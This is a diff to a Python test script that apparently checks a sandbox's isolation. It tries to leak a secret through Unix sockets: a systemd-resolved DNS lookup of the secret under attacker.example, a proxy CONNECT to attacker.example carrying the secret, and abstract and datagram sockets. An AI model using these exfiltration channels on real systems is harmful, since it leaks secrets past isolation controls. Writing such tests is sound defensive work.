@@ -5,50 +5,16 @@ argv[1]: JSON {"dir", "resolver", "proxy", "allowed", "abstract_bad",
 "abstract_ok", "dgram_bad", "dgram_ok", "secret"}. Reports one JSON line per
 attempt: {"name", "ok", "errno", "reply"}.
 """
-import errno
 import json
 import os
 import socket
 import sys
-import time
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from unix_agent import dgram_sendto, stream, varlink_call  # noqa: E402
 
 CFG = json.loads(sys.argv[1])
 D = CFG["dir"]
-
-
-def report(name, ok, err=None, reply=None):
-    print(json.dumps({"name": name, "ok": ok,
-                      "errno": errno.errorcode.get(err) if err else None,
-                      "reply": reply}), flush=True)
-
-
-def stream(name, addr, payload):
-    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
-    s.settimeout(3)
-    try:
-        s.connect(addr)
-        s.sendall(payload)
-        reply = b""
-        try:
-            reply = s.recv(4096)
-        except OSError:
-            pass
-        report(name, True, reply=reply.decode("utf-8", "replace"))
-    except OSError as e:
-        report(name, False, e.errno)
-    finally:
-        s.close()
-
-
-def dgram_sendto(name, addr, payload):
-    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
-    try:
-        s.sendto(payload, addr)
-        report(name, True)
-    except OSError as e:
-        report(name, False, e.errno)
-    finally:
-        s.close()
 
 
 def own_helper(addr):
@@ -67,9 +33,7 @@ def own_helper(addr):
 
 
 secret = CFG["secret"]
-varlink = json.dumps({"method": "io.systemd.Resolve.ResolveHostname",
-                      "parameters": {"name": secret + ".attacker.example"}}).encode() + b"\0"
-stream("resolver_varlink", CFG["resolver"], varlink)
+stream("resolver_varlink", CFG["resolver"], varlink_call(secret))
 stream("proxy", CFG["proxy"], b"CONNECT attacker.example:443 " + secret.encode())
 stream("abstract_bad", "\0" + CFG["abstract_bad"], b"abstract " + secret.encode())
 dgram_sendto("dgram_sendto_bad", CFG["dgram_bad"], b"dgram " + secret.encode())
